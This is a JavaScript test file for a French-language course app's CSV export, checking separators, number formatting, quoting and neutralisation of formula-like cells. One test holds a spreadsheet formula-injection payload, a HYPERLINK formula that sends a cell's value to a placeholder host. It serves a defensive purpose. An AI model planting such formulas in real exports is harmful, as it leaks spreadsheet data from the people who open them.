import assert from "node:assert/strict";
import { test } from "node:test";
import { objectiveRows, questionRows } from "../../web/group/elements/csv-rows.js";
import { toCsv } from "../../web/group/model/csv.js";

test("cells are parted by semicolons, rows by the end of line of spreadsheets, after a mark that says UTF-8", () => {
  assert.equal(toCsv([["Leçon", "Réussite"], ["Étape", "œuf"]]), "\ufeffLeçon;Réussite\r\nÉtape;œuf\r\n");
});

test("numbers have a decimal comma and are left as numbers, below zero too", () => {
  assert.equal(line([66.7, 3, 0, -0.25, null, 1e-7 * 0]), "66,7;3;0;-0,25;;0");
});

for (const cell of ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\0=1", "＝1", "＋1", "－1", "＠1", "-0,25", "="]) {
  test(`the text ${JSON.stringify(cell)} is no formula any more`, () => {
    const [written] = read(toCsv([[cell]]))[0];

    assert.equal(written, `'${cell}`);
  });
}

test("an attack stays a text with everything that parts cells in it", () => {
  const attack = '=HYPERLINK("http://a.example/?x="&A1;"Cliquez")';

  assert.deepEqual(read(toCsv([["avant", attack, "après"]])), [["avant", `'${attack}`, "après"]]);
});

test("a text that only holds a sign is left as it is", () => {
  assert.equal(line(["a=b", "12-3", "nom@exemple", " =1"]), 'a=b;12-3;nom@exemple;" =1"');
});

test("whatever the cells, they are read back", () => {
  const cells = ["", "simple", "a;b", 'dit "oui"', "deux\nlignes", "deux\r\nlignes", " bords ", "tab\tici", ";", '"'];

  assert.deepEqual(read(toCsv([cells, [...cells].reverse()])), [cells, [...cells].reverse()]);
});

test("words that come from the course are made harmless in the table too", () => {
  const course = /** @type {import("../../web/progress/model/course.js").Course} */ (
    /** @type {unknown} */ ({
      lessons: [{ id: "l", title: "@leçon" }],
      objectives: [{ id: "o", statement: "+objectif" }],
    })
  );
  const question = { id: "q", hash: "h", objective: "o", lesson: "l", read: "r" };
  const items = [
    {
      question,
      rank: 0,
      learners: 3,
      facility: 2 / 3,
      discrimination: -0.256,
      mistakes: [{ mistake: /** @type {const} */ ({ what: "chosen", text: "=1+1" }), learners: 1 }],
    },
    { question, rank: 1, learners: 2, facility: null, discrimination: null, mistakes: [] },
  ];
  const wordings = { q: { kind: "fill", prompt: "-x [[1]]" } };

  assert.deepEqual(read(toCsv(questionRows(items, course, wordings, true))).slice(1), [
    ["'-x …", "'@leçon", "'+objectif", "3", "66,7", "-0,26", "'=1+1 (1)"],
    ["'-x …", "'@leçon", "'+objectif", "2", "", "", ""],
  ]);
});

test("with few learners the head of the file says that correlations are a hint", () => {
  const course = /** @type {any} */ ({});

  assert.ok(questionRows([], course, {}, false)[0].includes("Discrimination (indicatif)"));
  assert.ok(questionRows([], course, {}, true)[0].includes("Discrimination"));
});

test("objectives are told before and after, with how many learners", () => {
  const objective = { id: "o", sequence: "s", statement: "créer un compte", lessons: [] };
  const change = { objective, before: { learners: 4, share: 0.125 }, after: { learners: 2, share: null } };

  assert.equal(toCsv(objectiveRows([change]).slice(1)), "\ufeffcréer un compte;12,5;4;;2\r\n");
});

/** @param {(string | number | null)[]} cells */
function line(cells) {
  return toCsv([cells]).slice(1, -2);
}

/**
 * Another reader than ours, letter by letter.
 *
 * @param {string} csv
 */
function read(csv) {
  assert.equal(csv[0], "\ufeff");
  const rows = [[""]];
  let inside = false;
  for (let index = 1; index < csv.length; index += 1) {
    const row = rows[rows.length - 1];
    const letter = csv[index];
    if (inside && letter === '"' && csv[index + 1] === '"') row[row.length - 1] += csv[(index += 1)];
    else if (letter === '"') inside = !inside;
    else if (!inside && letter === ";") row.push("");
    else if (!inside && letter === "\r" && csv[index + 1] === "\n") rows.push([""]) && (index += 1);
    else row[row.length - 1] += letter;
  }
  assert.deepEqual(rows.pop(), [""]);
  return rows;
}
